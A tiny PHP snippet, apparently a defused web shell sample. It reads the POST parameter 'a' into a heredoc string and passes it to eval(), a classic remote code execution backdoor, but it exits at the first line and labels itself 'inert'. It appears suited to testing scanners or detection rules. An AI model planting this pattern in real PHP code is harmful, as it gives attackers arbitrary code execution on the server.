<?php exit; /* inert */ $x=<<<A
{$_POST["a"]}
A;
eval($x);
